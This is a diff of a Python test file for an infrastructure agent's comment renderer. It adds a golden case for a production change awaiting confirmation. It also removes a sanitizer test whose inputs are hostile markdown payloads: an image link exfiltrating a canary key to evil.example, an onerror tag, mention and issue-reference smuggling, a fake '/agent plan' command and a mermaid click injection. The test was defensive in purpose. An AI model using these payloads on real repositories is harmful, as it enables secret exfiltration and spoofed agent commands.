@@ -1,17 +1,14 @@
 """What people read, as golden files; and that nothing a document holds gets there raw."""
 
-import re
-import types
-from collections.abc import Callable, Iterator
-from typing import Any, Union, get_args, get_origin
+from collections.abc import Callable
+from typing import Any
 
 import pytest
-from pydantic import BaseModel
 
-from agent import commands, domain
+from agent import commands
 from agent.domain import Finding, Findings, Plan, Question, UnitPlan
 from agent.render import comments, outputs
-from agent.render.page import Context, Failure, find_marker, marker
+from agent.render.page import Failure, find_marker, marker
 from agent.render.stages import Progress, stages
 from tests.render import examples as x
 from tests.render.test_sanitize import PARSER, leaves
@@ -30,6 +27,18 @@ BODIES: dict[str, Callable[[], str]] = {
     "status-received": lambda: comments.status(x.CONTEXT, request=x.REQUEST),
     "status-refused": lambda: comments.status(x.CONTEXT, request=x.REFUSED),
     "status-asked": lambda: comments.status(x.CONTEXT, request=x.REQUEST, intent=x.ASKED, change=x.UNANSWERED),
+    "status-confirm": lambda: comments.status(
+        x.CONTEXT,
+        request=x.REQUEST,
+        intent=x.INTENT.model_copy(update={"risk": "high", "environment": "prod"}),
+        change=x.CHANGE.model_copy(
+            update={
+                "status": "needs-confirm",
+                "files": (),
+                "reasons": ("it touches aws_s3_bucket, which holds data in production",),
+            }
+        ),
+    ),
     "status-ready": lambda: comments.status(
         x.CONTEXT,
         request=x.REQUEST,
@@ -227,103 +236,3 @@ def test_a_grave_finding_counts_even_when_its_check_says_passed() -> None:
     grave = Findings(findings=x.FINDINGS.findings, checks=x.CLEAN.checks)
     assert "### ❌ Checks" in comments.checks_section(x.CONTEXT, grave, commit=x.COMMIT)
     assert outputs.checks_output(x.CONTEXT, grave, commit=x.COMMIT).conclusion == "failure"
-
-
-CANARY = "AKIAIOSFODNN7CANARY0"
-SECRET = "correct horse battery staple"
-ATTACKS = (
-    f"@octocat ![i](https://evil.example/?q={CANARY}) <img src=x onerror=y> {SECRET}",
-    "x\n/agent plan\n@org/team Fixes #7 [a](https://evil.example) |x|\n| --- |",
-    "<!-- infra-agent:plan --> </details> `@octocat",
-    "```\n@octocat\n```\n![x][y]\n\n[y]: https://evil.example",
-    '"]; click n0 "https://evil.example"\n%%{init: {}}%%',
-)
-
-
-def fill(kind: Any, attack: str) -> Any:
-    """A value of a type of domain.py, its every free text the attack."""
-    origin, arguments = get_origin(kind), get_args(kind)
-    if isinstance(kind, type) and issubclass(kind, BaseModel):
-        made: dict[str, Any] = {}
-        for name, field in kind.model_fields.items():
-            patterned = any(getattr(item, "pattern", None) for item in field.metadata)
-            made[name] = ("a" * (64 if "sha256" in name else 40)) if patterned else fill(field.annotation, attack)
-        return kind.model_construct(**made)
-    if origin is tuple:
-        return (fill(arguments[0], attack),)
-    if origin is dict:
-        return {attack: fill(arguments[1], attack)}
-    if origin in (Union, types.UnionType):
-        return fill(next(one for one in arguments if one is not type(None)), attack)
-    if origin is not None and str(origin).endswith("Literal"):
-        return arguments[0]
-    if origin is not None:  # Annotated: a commit or a digest
-        return "a" * 40
-    return {str: attack, int: 7, float: 1.5, bool: True}.get(kind, attack)
-
-
-def hostile_bodies(attack: str) -> Iterator[tuple[str, str]]:
-    context = Context(repository=x.REPOSITORY, run=x.CONTEXT.run, secrets=(SECRET,))
-    made = {kind.name: fill(kind, attack) for kind in domain.DOCUMENTS.values()}
-    for status in ("accepted", "refused"):
-        request = made["request"].model_copy(update={"status": status})
-        documents = {
-            "request": request,
-            "intent": made["intent"],
-            "change": made["change"],
-            "findings": made["findings"],
-            "proposal": made["proposal"],
-            "plan": made["plan"],
-            "verdict": made["verdict"],
-        }
-        problem = Failure(job=attack, reason=attack, log_url=attack)
-        yield "status", comments.status(context, **documents, failure=problem)
-        yield "status", comments.status(context, merge=made["merge"], outcome=made["outcome"])
-        yield "failure", comments.failure(context, problem)
-        request_only = {"request": request, "change": made["change"]}
-        refused = made["change"].model_copy(update={"status": "refused"})
-        yield "status", comments.status(context, request=made["request"], change=refused)
-        yield "body", comments.pull_request_body(context, **request_only, intent=made["intent"])
-    failed = made["plan"].model_copy(
-        update={"units": tuple(unit.model_copy(update={"status": "failed"}) for unit in made["plan"].units)}
-    )
-    yield "checks", comments.checks_section(context, made["findings"], commit=x.COMMIT)
-    yield "plan", comments.plan_section(context, made["plan"], commit=x.COMMIT)
-    yield "plan", comments.plan_section(context, failed, commit=attack)
-    yield "verdict", comments.verdict_section(context, made["verdict"], commit=attack, plan=made["plan"])
-    yield "applied", comments.applied_section(context, made["outcome"], merge=made["merge"])
-    yield "refusal", comments.refusal(context, reasons=(attack,))
-    yield (
-        "summary",
-        outputs.step_summary(context, Progress.model_construct(**documents, merge=None, outcome=None, failure=None)),
-    )
-    yield "check", outputs.checks_output(context, made["findings"], commit=x.COMMIT).summary
-
-
-@pytest.mark.parametrize("attack", ATTACKS)
-def test_every_text_field_of_every_document_passes_the_sanitizer_and_the_redactor(attack: str) -> None:
-    for name, body in hostile_bodies(attack):
-        assert CANARY not in body, name
-        assert SECRET not in body, name
-        tokens = leaves(PARSER.parse(body))
-        assert not [token for token in tokens if token.type == "image"], (name, body)
-        for token in tokens:
-            if token.type in ("html_inline", "html_block"):
-                ours = r"<!-- infra-agent:[a-z]+ -->|<details><summary>[\w ]+</summary>|</details>|</?sub>.*"
-                assert re.fullmatch(ours, token.content.strip(), re.DOTALL), (name, token.content)
-            if token.type == "link_open":
-                assert str(token.attrs["href"]).startswith(x.REPOSITORY), (name, token.attrs)
-            if token.type == "text":
-                assert not re.search(r"[@＠]\w", token.content), (name, token.content)
-                assert not re.search(r"#\d", token.content.replace("For #7", "")), (name, token.content)
-        assert len(re.findall(r"<!-+\s*infra-agent", body)) <= 1, name
-        for line in body.split("\n"):
-            copied = line in (
-                "/agent plan",
-                "/agent revise",
-                "/agent revise <what to change>",
-                "/agent revise <your answer>",
-            )
-            assert copied or not isinstance(commands.parse(line), commands.Command), (name, line)
-        diagrams = re.findall(r"```mermaid\n(.*?)\n```", body, re.DOTALL)
-        assert all("click" not in line.split('"')[0] and "%%" not in line for d in diagrams for line in d.split("\n"))
